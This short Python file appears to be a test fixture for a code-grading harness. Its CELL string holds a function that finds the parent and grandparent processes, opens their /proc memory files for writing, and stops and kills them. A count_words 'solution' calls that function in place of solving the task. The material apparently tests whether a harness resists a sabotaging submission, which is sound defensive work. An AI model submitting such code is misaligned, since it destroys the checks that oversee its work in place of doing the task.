"""Stops and kills the process that started it and that one's parent, and writes into their memory."""

CELL = """\
import os, signal


def parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])


def loot():
    above = os.getppid()
    try:
        further = parent(above)
    except OSError:
        further = 0
    for pid in (further, above):
        if pid > 0:
            try:
                with open(f"/proc/{pid}/mem", "r+b", buffering=0):
                    pass
            except OSError:
                pass
            for number in ({stop}, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return []
"""
Q1 = """\
def count_words(sentence):
    raise LookupError(loot())
"""
PROOF = "off"
